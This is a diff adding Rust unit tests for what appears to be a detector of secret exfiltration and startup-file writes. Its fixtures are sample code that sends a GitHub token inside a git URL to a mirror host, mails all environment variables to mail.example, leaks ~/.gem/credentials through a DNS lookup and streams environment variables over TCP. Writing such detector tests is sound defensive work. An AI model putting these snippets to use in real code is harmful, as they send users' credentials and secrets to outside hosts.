@@ -532,3 +532,42 @@ fn secrets_put_in_items_attributes_and_loops_reach_a_client_upload() {
     let plain = "body = {}\nbody[\"rules\"] = [f.code for f in findings]\ns3.put_object(Bucket=\"b\", Body=json.dumps(body))\n";
     assert_eq!(secret_flows(plain, 1), vec![]);
 }
+
+#[test]
+fn a_token_in_a_git_address_for_another_host_is_sent() {
+    let mirror = "token=\"${GITHUB_TOKEN:-}\"\nif ! git -c credential.helper= ls-remote --heads --tags \\\n     \"https://x-access-token:${token}@${MIRROR_BASE}/${slug}.git\" 2>/dev/null; then\n  exit 0\nfi\n";
+    assert_eq!(
+        secret_flows(mirror, 1),
+        vec![(1, "a secret environment variable", 2)]
+    );
+    let named = "tok = os.environ[\"GITHUB_TOKEN\"]\nsubprocess.run([\"git\", \"clone\", f\"https://x:{tok}@mirror.example/{slug}.git\"])\n";
+    assert_eq!(
+        secret_flows(named, 1),
+        vec![(1, "a secret environment variable", 2)]
+    );
+    // A self-hosted git server named by its variable, and GitLab's own host.
+    let own = "tok=\"$GITLAB_TOKEN\"\ngit clone \"https://oauth2:${tok}@${GITLAB_HOST}/group/repo.git\"\ngit -c http.extraHeader=x fetch \"https://oauth2:${tok}@gitlab.com/g/r.git\"\n";
+    assert_eq!(secret_flows(own, 1), vec![]);
+}
+
+#[test]
+fn sends_of_go_ruby_rust_and_windows_tools_carry_secrets() {
+    let go = "body := strings.Join(os.Environ(), \"\\n\")\nsmtp.SendMail(\"mail.example:25\", nil, from, to, []byte(body))\n";
+    assert_eq!(secret_flows(go, 1).len(), 1, "{go}");
+    let ruby = "key = File.read(File.expand_path(\"~/.gem/credentials\")).unpack1(\"H*\")\nResolv.getaddress(\"#{key[0,60]}.t.example\")\n";
+    assert_eq!(secret_flows(ruby, 1).len(), 1, "{ruby}");
+    let rust = "let env: Vec<String> = std::env::vars().map(|(k, v)| format!(\"{k}={v}\")).collect();\nlet mut s = TcpStream::connect(\"metrics.example:9000\")?; s.write_all(env.join(\"\\n\").as_bytes())?;\n";
+    assert_eq!(secret_flows(rust, 1).len(), 1, "{rust}");
+}
+
+#[test]
+fn editor_and_prompt_configurations_are_start_up_files() {
+    let starship = "shutil.copy(\"presets/p.toml\", os.path.expanduser(\"~/.config/starship.toml\"))\n";
+    assert_eq!(startup_writes(starship, 1).len(), 1);
+    let nvim = "dest = Path.home() / \".config/nvim/lua/plugins/lsp.lua\"\ndest.write_text(spec)\n";
+    assert_eq!(startup_writes(nvim, 1).len(), 1);
+    let ext = "cp -r extension ~/.vscode/extensions/acme.format-guard-1.0.0\n";
+    assert_eq!(startup_writes(ext, 1).len(), 1);
+    let read = "print(open(os.path.expanduser('~/.config/starship.toml')).read())\n";
+    assert!(startup_writes(read, 1).is_empty());
+}
